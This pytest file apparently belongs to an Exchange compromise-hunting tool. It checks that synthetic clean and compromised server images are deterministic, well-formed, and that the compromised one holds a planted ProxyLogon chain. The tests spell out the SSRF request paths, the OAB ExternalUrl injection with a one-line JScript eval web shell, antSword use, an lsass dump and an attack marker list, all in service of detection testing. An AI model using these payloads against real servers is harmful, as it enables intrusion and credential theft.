"""The seeded example servers: formats, determinism, manifest, and the planted ProxyLogon chain."""

from __future__ import annotations

import hashlib
import os
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from testing_logs import exchange_rows, lines_of, read_exchange, read_w3c, w3c_rows

from exhunt.detect.stock import stock_files
from exhunt.testing.builder import HTTPPROXY_FIELDS, HTTPPROXY_PROTOCOLS
from exhunt.testing.generator import LOG_END, LOG_START, STOCK_WEB, ServerManifest, write_server

pytestmark = pytest.mark.slow

INSTALL = "C/Program Files/Microsoft/Exchange Server/V15"
GENERIC_MARKERS = (
    "ServerInfo~", "X-BEResource", "X-AnonResource", "python-requests",
    "ExchangeServicesClient/0.0.0.0",
    "proxyLogon.ecp", "ResetOABVirtualDirectory", "OABVirtualDirectory", "<script", "antSword",
    "104.140.114.110", "autodiscover.json", "lsass", "it.zip", "RedirSuiteServerProxy",
)  # fmt: skip


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> ServerManifest:
    return write_server(tmp_path_factory.mktemp("clean") / "server", "clean")


@pytest.fixture(scope="module")
def compromised(tmp_path_factory: pytest.TempPathFactory) -> ServerManifest:
    return write_server(tmp_path_factory.mktemp("compromised") / "server", "compromised")


def _files(root: Path) -> Iterator[Path]:
    return (p for p in sorted(root.rglob("*")) if p.is_file())


def _digest(root: Path) -> dict[str, tuple[str, int]]:
    return {
        p.relative_to(root).as_posix(): (
            hashlib.sha256(p.read_bytes()).hexdigest(), os.stat(p).st_mtime_ns
        )
        for p in _files(root)
    }  # fmt: skip


def _proxy(m: ServerManifest, protocol: str) -> Path:
    return m.root / INSTALL / "Logging" / "HttpProxy" / protocol


def _iis(m: ServerManifest, site: int, when: datetime) -> Path:
    return (
        m.root / "C" / "inetpub" / "logs" / "LogFiles" / f"W3SVC{site}" / f"u_ex{when:%y%m%d}.log"
    )


def _ecp_rows(m: ServerManifest, when: datetime) -> list[dict[str, str]]:
    return exchange_rows(
        m.root / INSTALL / "Logging" / "ECP" / "Server" / f"ECPServer{when:%Y%m%d}-1.LOG"
    )


def test_same_seed_same_bytes(tmp_path: Path, compromised: ServerManifest) -> None:
    again = write_server(tmp_path / "again", "compromised")
    assert _digest(again.root) == _digest(compromised.root)
    assert again.attack == compromised.attack and again.planted == compromised.planted


def test_other_seed_other_server(tmp_path: Path, clean: ServerManifest) -> None:
    other = write_server(tmp_path / "other", "clean", seed=2, users=20)
    sample = f"{INSTALL}/Logging/HttpProxy/Mapi/HttpProxy_2021030309-1.LOG"
    assert (other.root / sample).read_bytes() != (clean.root / sample).read_bytes()


@pytest.mark.parametrize("name", ["clean", "compromised"])
def test_manifest_lists_exactly_the_written_files(
    name: str, request: pytest.FixtureRequest
) -> None:
    m: ServerManifest = request.getfixturevalue(name)
    assert m.files == tuple(p.relative_to(m.root).as_posix() for p in _files(m.root))
    for planted in m.planted:
        path = m.root / planted.path
        assert hashlib.sha256(path.read_bytes()).hexdigest() == planted.sha256
        assert os.stat(path).st_mtime == pytest.approx(planted.mtime.timestamp(), abs=1e-3)
    assert LOG_START <= m.first_log < m.first_log + timedelta(hours=1) and m.last_log < LOG_END


@pytest.mark.parametrize("name", ["clean", "compromised"])
def test_exchange_logs_are_well_formed(name: str, request: pytest.FixtureRequest) -> None:
    m: ServerManifest = request.getfixturevalue(name)
    logs = [p for p in _files(m.root / INSTALL / "Logging") if p.suffix == ".LOG"]
    assert len(logs) > 3000
    for path in logs:
        header, segments = read_exchange(path)
        assert len(segments) == 1
        seg = segments[0]
        assert header == seg.directives["Fields"]
        assert list(seg.directives) == ["Software", "Version", "Log-type", "Date", "Fields"]
        assert all(len(row) == len(seg.fields) for row in seg.rows), path
        if seg.rows:
            assert seg.directives["Date"] == seg.rows[0][0], path
            times = [row[0] for row in seg.rows]
            assert times == sorted(times) and all(
                re.fullmatch(r"\d{4}-\d\d-\d\dT[\d:.]{12}Z", t) for t in times
            )


@pytest.mark.parametrize("name", ["clean", "compromised"])
def test_iis_logs_are_well_formed(name: str, request: pytest.FixtureRequest) -> None:
    m: ServerManifest = request.getfixturevalue(name)
    for site, port in ((1, "443"), (2, "444")):
        files = sorted((m.root / "C" / "inetpub" / "logs" / "LogFiles" / f"W3SVC{site}").iterdir())
        assert [p.name for p in files] == [f"u_ex{d:%y%m%d}.log" for d in _days()]
        for path in files:
            for seg in read_w3c(path):
                assert seg.directives["Software"] == "Microsoft Internet Information Services 10.0"
                assert all(len(row) == len(seg.fields) for row in seg.rows), path
            rows = w3c_rows(path)
            assert {r["s-port"] for r in rows} == {port}
            if site == 1:
                assert all(
                    re.search(
                        r"&CorrelationID=<empty>;&cafeReqId=[0-9a-f-]{36};", r["cs-uri-query"]
                    )
                    for r in rows
                )


@pytest.mark.parametrize("name", ["clean", "compromised"])
def test_every_protocol_folder_has_every_hour(name: str, request: pytest.FixtureRequest) -> None:
    m: ServerManifest = request.getfixturevalue(name)
    hours = {
        f"{LOG_START + timedelta(hours=h):%Y%m%d%H}"
        for h in range(int((LOG_END - LOG_START) / timedelta(hours=1)))
    }
    for protocol in HTTPPROXY_PROTOCOLS:
        seen = {p.name[10:20] for p in _proxy(m, protocol).iterdir()}
        assert seen == hours, protocol
    rps = m.root / INSTALL / "Logging" / "CmdletInfra" / "Powershell-Proxy" / "Http"
    assert len(list(rps.iterdir())) >= len(hours)


def test_clean_server_is_patched_mid_window(clean: ServerManifest) -> None:
    assert clean.build == "15.1.2176.9" and clean.attack is None
    assert [b for _, b in clean.build_history] == ["15.1.2176.2", "15.1.2176.9"]
    owa = _proxy(clean, "Owa")
    before = read_exchange(owa / "HttpProxy_2021030219-1.LOG")[1][0]
    after = read_exchange(owa / "HttpProxy_2021030320-2.LOG")[1][0]
    assert before.directives["Version"] == "15.01.2176.002" and before.rows[0][2:6] == [
        "15",
        "1",
        "2176",
        "2",
    ]
    assert after.directives["Version"] == "15.01.2176.009" and after.rows[0][2:6] == [
        "15",
        "1",
        "2176",
        "9",
    ]
    for site in (1, 2):
        dates = [s.directives["Date"] for s in read_w3c(_iis(clean, site, datetime(2021, 3, 3)))]
        assert len(dates) == 2 and dates[1] == "2021-03-03 20:41:00"


def test_clean_server_has_no_attack_markers(
    clean: ServerManifest, compromised: ServerManifest
) -> None:
    assert compromised.attack is not None
    markers = {*GENERIC_MARKERS, *compromised.attack.markers}
    for path in _files(clean.root):
        data = path.read_bytes()
        found = [m for m in markers if m.encode() in data]
        assert not found, (path, found)
    assert [p.kind for p in clean.planted] == ["benign-archive"]


@pytest.mark.parametrize("name", ["clean", "compromised"])
def test_near_misses_are_present(name: str, request: pytest.FixtureRequest) -> None:
    m: ServerManifest = request.getfixturevalue(name)
    ecp = _ecp_rows(m, datetime(2021, 2, 25))
    changes = [r for r in ecp if "Set-OwaVirtualDirectory.ExternalUrl=''https://" in r["EventData"]]
    assert len(changes) == 1 and "<script" not in changes[0]["EventData"]
    oab = [
        r
        for p in _files(m.root / INSTALL / "Logging" / "OABGeneratorLog")
        for r in exchange_rows(p)
    ]
    failed = [
        r["Message"] for r in oab if r["Message"].startswith("Download failed and temporary file")
    ]
    install = m.install_path + "\\ClientAccess\\OAB\\"
    assert len(failed) == 1 and failed[0].startswith(
        f"Download failed and temporary file '{install}"
    )
    (archive,) = [p for p in m.planted if p.kind == "benign-archive"]
    assert archive.path.startswith("C/ProgramData/McAfee/") and not archive.malicious


def test_compromised_chain_in_httpproxy(compromised: ServerManifest) -> None:
    attack = compromised.attack
    assert attack is not None and compromised.build == "15.1.2106.2"
    start = attack.steps[0].time
    rows = exchange_rows(_proxy(compromised, "Ecp") / f"HttpProxy_{start:%Y%m%d%H}-1.LOG")
    rows += exchange_rows(
        _proxy(compromised, "Ecp") / f"HttpProxy_{start + timedelta(hours=1):%Y%m%d%H}-1.LOG"
    )
    chain = [r for r in rows if r["ClientIpAddress"] == "104.140.114.110"]
    fqdn = compromised.fqdn
    assert [r["AnchorMailbox"] for r in chain] == [
        f"ServerInfo~a]@{fqdn}:444/autodiscover/autodiscover.xml?#",
        f"ServerInfo~a]@{fqdn}:444/mapi/emsmdb/?#",
        f"ServerInfo~a]@{fqdn}:444/ecp/proxyLogon.ecp?#",
        f"ServerInfo~a]@{fqdn}:444/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary={attack.canary}&schema=OABVirtualDirectory#",
        f"ServerInfo~a]@{fqdn}:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={attack.canary}&schema=OABVirtualDirectory#",
        f"ServerInfo~a]@{fqdn}:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={attack.canary}&schema=ResetOABVirtualDirectory#",
        f"ServerInfo~a]@{fqdn}:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={attack.canary}&schema=OABVirtualDirectory#",
    ]
    assert [r["HttpStatus"] for r in chain] == ["200", "200", "241", "200", "200", "200", "200"]
    assert [r["UserAgent"] for r in chain] == ["ExchangeServicesClient/0.0.0.0"] + [
        "python-requests/2.25.1"
    ] * 6
    assert {r["UrlStem"] for r in chain} == {attack.ssrf_url_stem} and re.fullmatch(
        r"/ecp/[a-z]\.js", attack.ssrf_url_stem
    )
    assert {r["RoutingHint"] for r in chain} == {"X-BEResource-Cookie"}
    assert {(r["AuthenticatedUser"], r["Method"]) for r in chain} == {("", "POST")}
    assert [r["RequestId"] for r in chain] == [s.request_id for s in attack.steps]
    assert [r["DateTime"] for r in chain] == [
        f"{s.time:%Y-%m-%dT%H:%M:%S}.{s.time.microsecond // 1000:03d}Z" for s in attack.steps
    ]


def test_compromised_chain_in_iis(compromised: ServerManifest) -> None:
    attack = compromised.attack
    assert attack is not None
    front = {r["cs-uri-query"]: r for r in w3c_rows(_iis(compromised, 1, attack.reset_time))}
    for step in attack.steps:
        row = front[f"&CorrelationID=<empty>;&cafeReqId={step.request_id};"]
        assert (row["cs-method"], row["cs-uri-stem"], row["c-ip"]) == (
            "POST",
            attack.ssrf_url_stem,
            attack.attacker_ip,
        )
        assert (row["sc-status"], row["cs-username"], row["s-port"]) == (
            str(step.status),
            "-",
            "443",
        )
    back = [
        r
        for r in w3c_rows(_iis(compromised, 2, attack.reset_time))
        if r["cs-uri-stem"] == "/ecp/DDI/DDIService.svc/SetObject"
        and r["cs-username"].endswith("$")
    ]
    assert [r["cs-uri-query"].split("&CorrelationID")[0].split("&schema=")[1] for r in back] == [
        "OABVirtualDirectory", "ResetOABVirtualDirectory", "OABVirtualDirectory",
    ]  # fmt: skip
    reset = back[1]
    assert (reset["cs-method"], reset["sc-status"], reset["s-port"]) == ("POST", "200", "444")
    assert (
        reset["cs-username"]
        == attack.backend_user
        == f"{compromised.netbios_domain}\\{compromised.host}$"
    )
    assert f"cafeReqId={attack.steps[5].request_id};" in reset["cs-uri-query"]


def test_compromised_chain_in_ecp_server_log(compromised: ServerManifest) -> None:
    attack = compromised.attack
    assert attack is not None
    rows = [
        r
        for r in _ecp_rows(compromised, attack.reset_time)
        if f"msExchEcpCanary={attack.canary}" in r["EventData"]
    ]
    commands = [re.search(r"'?S:CMD=(.*?)'?;S:REQID=", r["EventData"]).group(1) for r in rows]  # type: ignore[union-attr]
    assert [c.split(".")[0] for c in commands] == [
        "Get-OabVirtualDirectory", "Pipeline", "Set-OabVirtualDirectory", "Get-OabVirtualDirectory",
        "Get-OABVirtualDirectory", "Get-ExchangeServer", "Set-OabVirtualDirectory",
        "Remove-OABVirtualDirectory", "New-OABVirtualDirectory", "Get-OabVirtualDirectory",
        "Set-OabVirtualDirectory",
    ]  # fmt: skip
    script = rows[2]["EventData"]
    opening = '<script language="JScript" runat="server">'
    assert f"'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/{opening}" in script
    assert f'eval(Request["{attack.webshell_key}"],"unsafe");}}</script>' in script
    assert "ExternalUrl=$null" in commands[6] and "ExternalUrl=$null" in commands[10]
    assert [t for t, _ in attack.ecp_commands] == [
        datetime.fromisoformat(r["TimeStamp"]) for r in rows
    ]
    steps = {s.name: s.time for s in attack.steps}
    assert (
        steps["setobject"] - timedelta(seconds=1) < attack.ecp_commands[2][0] < steps["setobject"]
    )
    assert steps["reset"] - timedelta(seconds=1) < attack.ecp_commands[7][0] < steps["reset"]


def test_web_shell_and_its_use(compromised: ServerManifest) -> None:
    attack = compromised.attack
    assert attack is not None
    kinds = {p.kind: p for p in compromised.planted}
    shell = kinds["webshell"]
    assert (
        shell.path == f"{INSTALL}/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx"
        and shell.malicious
    )
    text = (compromised.root / shell.path).read_bytes().decode()
    script = (
        '<script language="JScript" runat="server">'
        f'function Page_Load(){{eval(Request["{attack.webshell_key}"],"unsafe");}}</script>'
    )
    assert f"\r\nExternalUrl                     : http://f/{script}\r\n" in text
    assert timedelta(0) < attack.reset_time - shell.mtime < timedelta(seconds=2)
    posts = [t for t in attack.webshell_requests if t > attack.reset_time]
    assert posts == list(attack.webshell_requests) and len(posts) >= 12
    days = sorted({datetime(t.year, t.month, t.day, tzinfo=UTC) for t in posts})
    iis_hits = [
        r for day in days for r in w3c_rows(_iis(compromised, 1, day))
        if r["cs-uri-stem"] == attack.webshell_url
    ]  # fmt: skip
    assert len(iis_hits) == len(posts)
    uses = [r for r in iis_hits if r["cs-method"] == "POST"]
    assert {(r["c-ip"], r["sc-status"], r["cs(User-Agent)"]) for r in uses} == {
        (attack.webshell_ip, "200", "antSword/v2.1")
    }
    assert all(r["cs-uri-query"].endswith(";&encoding=;") for r in iis_hits)
    owa = [
        r
        for p in _files(_proxy(compromised, "Owa"))
        for r in exchange_rows(p)
        if r["UrlStem"] == attack.webshell_url
    ]
    assert sorted(r["DateTime"] for r in owa) == [
        f"{t:%Y-%m-%dT%H:%M:%S}.{t.microsecond // 1000:03d}Z" for t in posts
    ]
    assert (
        kinds["lsass-dump"].path == "C/Windows/Temp/lsass.dmp"
        and kinds["archive"].path == "C/ProgramData/it.zip"
    )
    assert posts[1] < kinds["lsass-dump"].mtime < kinds["archive"].mtime
    assert (compromised.root / kinds["lsass-dump"].path).read_bytes().startswith(b"MDMP")


def test_install_on_another_drive(tmp_path: Path) -> None:
    m = write_server(tmp_path / "d", "compromised", install="D:\\Apps\\Exchange", users=20)
    assert m.install_path == "D:\\Apps\\Exchange"
    assert (m.root / "D/Apps/Exchange/Logging/HttpProxy/Ecp").is_dir()
    assert (m.root / "C/inetpub/logs/LogFiles/W3SVC1").is_dir()
    assert not (m.root / INSTALL).exists()
    (shell,) = [p for p in m.planted if p.kind == "webshell"]
    assert (
        shell.windows_path
        == "D:\\Apps\\Exchange\\FrontEnd\\HttpProxy\\owa\\auth\\RedirSuiteServerProxy.aspx"
    )
    config = (m.root / "C/Windows/System32/inetsrv/config/applicationHost.config").read_text()
    assert 'physicalPath="D:\\Apps\\Exchange\\FrontEnd\\HttpProxy\\owa"' in config
    assert m.attack is not None
    ecp = m.root / f"D/Apps/Exchange/Logging/ECP/Server/ECPServer{m.attack.reset_time:%Y%m%d}-1.LOG"
    assert "Path=''D:\\Apps\\Exchange\\FrontEnd\\HttpProxy\\OAB''" in "".join(lines_of(ecp))


def test_httpproxy_rows_use_74_columns(compromised: ServerManifest) -> None:
    header, segments = read_exchange(_proxy(compromised, "Mapi") / "HttpProxy_2021030310-1.LOG")
    assert header.split(",") == list(HTTPPROXY_FIELDS) and len(segments[0].rows[0]) == 74


def _days() -> list[datetime]:
    return [LOG_START + timedelta(days=i) for i in range((LOG_END - LOG_START).days)]


def test_window_is_utc() -> None:
    assert LOG_START.tzinfo is UTC and (LOG_END - LOG_START).days == 15


def test_refuses_a_folder_that_is_not_empty(tmp_path: Path) -> None:
    (tmp_path / "x.txt").write_text("x")
    with pytest.raises(FileExistsError):
        write_server(tmp_path, "clean")


def test_stock_web_files_are_in_the_baseline() -> None:
    stock = stock_files()
    scripts = [p for p in STOCK_WEB if p.endswith((".aspx", ".asax", ".config", ".htm"))]
    assert len(scripts) == 17
    assert [p for p in scripts if not stock.has_file(p.format(v="15.1.2106"))] == []
